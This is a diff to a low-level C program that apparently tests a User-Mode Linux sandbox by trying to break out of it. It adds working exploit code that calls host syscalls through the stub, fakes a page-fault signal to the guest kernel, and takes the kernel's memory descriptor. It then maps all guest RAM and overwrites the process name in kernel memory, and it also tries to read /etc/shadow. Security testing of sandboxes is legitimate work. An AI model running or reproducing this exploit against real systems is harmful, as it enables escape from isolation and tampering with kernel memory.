@@ -8,6 +8,7 @@
 #include <asm/unistd.h>
 #include <linux/fcntl.h>
 #include <linux/mount.h>
+#include <linux/sysinfo.h>
 
 typedef unsigned long word;
 
@@ -15,9 +16,10 @@ static long call(long number, word a, word b, word c, word d, word e)
 {
 	register word r10 asm("r10") = d;
 	register word r8 asm("r8") = e;
+	register word r9 asm("r9") = 0;
 	long result;
 
-	asm volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
+	asm volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
 		     : "rcx", "r11", "memory");
 	return result;
 }
@@ -72,31 +74,116 @@ static word gadget(void)
 	return 0;
 }
 
-static void reach(void)
+static long host(long number, word a, word b, word c, word d, word e, word f)
 {
-	static struct { void *name; int length; void *iov; word count; void *control; word size; int flags; } message;
+	register word r10 asm("r10") = d;
+	register word r8 asm("r8") = e;
+	register word r9 asm("r9") = f;
 	long result;
+
+	asm volatile("call *%[at]" : "=a"(result)
+		     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), [at] "b"(gadget())
+		     : "rcx", "r11", "memory");
+	return result;
+}
+
+struct message { void *name; int length; word *iov; word count; void *control; word size; int flags; };
+
+static int reach(void)
+{
+	static struct message message;
 
 	/* The host knows no page that the program has not touched. */
 	*(volatile int *)&message.flags = 0;
-	asm volatile("call *%[at]" : "=a"(result)
-		     : "a"(__NR_recvmsg), "D"(0), "S"(&message), "d"(0), [at] "b"(gadget())
-		     : "rcx", "r11", "memory");
-	CALL(__NR_exit, -result, 0, 0, 0, 0);
+	return -host(__NR_recvmsg, 0, (word)&message, 0, 0, 0, 0);
 }
 
-static void attempt_stub(void)
+/* What the guest's kernel and the stub share (arch/um/include/shared/skas/stub-data.h), the page behind the stub. */
+struct shared {
+	long error;
+	int count;
+	struct { word address, length, offset; int file, protection, kind; } call[99] __attribute__((aligned(16)));
+	short restart;
+	unsigned int futex;
+	int signal;
+	unsigned short info, context;
+	unsigned char stack[4096] __attribute__((aligned(4096)));
+};
+
+#define SHARED ((volatile struct shared *)(STUB_CODE + 4096))
+/* Registers in a signal's context (REG_ERR and others, ucontext.h). */
+enum { ERR = 19, TRAP, CR2 = 22 };
+#define PAGE 0x200000000ul
+#define WINDOW 0x300000000ul
+
+/*
+ * The kernel waits for the stub to tell of a signal. This program tells of one instead: a fault at a page that has no
+ * memory yet. The kernel sends the descriptor of its memory, to map a page of it; the program takes all of it.
+ */
+static long kernel_memory(void)
+{
+	struct { word length; int level, type, file[4]; } control;
+	char byte;
+	word vector[2] = { (word)&byte, 1 };
+	struct message message = { .iov = vector, .count = 1, .control = &control, .size = sizeof(control) };
+	struct sysinfo info;
+	word *context, size;
+	int i;
+
+	CALL(__NR_sysinfo, &info, 0, 0, 0, 0);
+	size = info.totalram * info.mem_unit & ~0xffful;
+	call(__NR_mmap, PAGE, 4096, 3, 0x32 /* private, fixed, anonymous */, -1);
+	/* As the last call left it. */
+	context = (word *)(SHARED->stack + SHARED->context);
+	context[ERR] = 6;
+	context[TRAP] = 14;
+	context[CR2] = PAGE;
+	SHARED->signal = 11;
+	SHARED->futex = 1;
+	host(__NR_futex, (word)&SHARED->futex, 1 /* FUTEX_WAKE */, 1, 0, 0, 0);
+	while (SHARED->futex == 1)
+		host(__NR_futex, (word)&SHARED->futex, 0 /* FUTEX_WAIT */, 1, 0, 0, 0);
+	if (host(__NR_recvmsg, 0, (word)&message, 0, 0, 0, 0) != 1)
+		return -1;
+	for (i = 0; i < SHARED->count; i++)
+		host(__NR_mmap, SHARED->call[i].address, SHARED->call[i].length, SHARED->call[i].protection,
+		     0x11 /* shared, fixed */, control.file[SHARED->call[i].file], SHARED->call[i].offset);
+	SHARED->count = 0;
+	SHARED->error = 0;
+	return host(__NR_mmap, WINDOW, size, 3, 0x11, control.file[0], 0) == WINDOW ? (long)size : -1;
+}
+
+/* The name that the kernel keeps of this process, changed in the kernel's own memory. */
+static int rewrite(void)
+{
+	/* "goodput-glitter", of which there is no copy but the kernel's, and ours. */
+	volatile word hidden[2] = { ~0x2d747570646f6f67ul, ~0x0072657474696c67ul };
+	word name[2] = { ~hidden[0], ~hidden[1] }, said[2] = { 0 }, *at;
+	long size;
+
+	CALL(__NR_prctl, 15 /* PR_SET_NAME */, name, 0, 0, 0);
+	size = kernel_memory();
+	if (size < 0)
+		return 1;
+	for (at = (word *)WINDOW; at < (word *)(WINDOW + size) - 1; at++)
+		if (at[0] == ~hidden[0] && at[1] == ~hidden[1])
+			at[0] ^= 0x20;
+	CALL(__NR_prctl, 16 /* PR_GET_NAME */, said, 0, 0, 0);
+	return said[0] == (~hidden[0] ^ 0x20) && said[1] == ~hidden[1] ? 0 : 2;
+}
+
+static void attempt_in_child(const char *name, int (*attempt)(void))
 {
 	int status = 0;
 	long child = CALL(__NR_fork, 0, 0, 0, 0, 0);
 
 	if (!child)
-		reach();
+		CALL(__NR_exit, attempt(), 0, 0, 0, 0);
 	CALL(__NR_wait4, child, &status, 0, 0, 0);
 	if (status & 0x7f)
-		tell("stub", "signal ", status & 0x7f);
+		tell(name, "signal ", status & 0x7f);
 	else
-		tell("stub", "errno ", status >> 8);
+		tell(name, "errno ", status >> 8);
 }
 
 static void attempt_open(const char *name, const char *path, int flags)
@@ -149,7 +236,8 @@ static void attempt_descriptors(void)
 
 void _start(void)
 {
-	attempt_stub();
+	attempt_in_child("stub", reach);
+	attempt_in_child("kernel's memory", rewrite);
 	attempt_trace();
 	attempt_stub_pages();
 	attempt_open("shadow", "/etc/shadow", O_RDONLY);
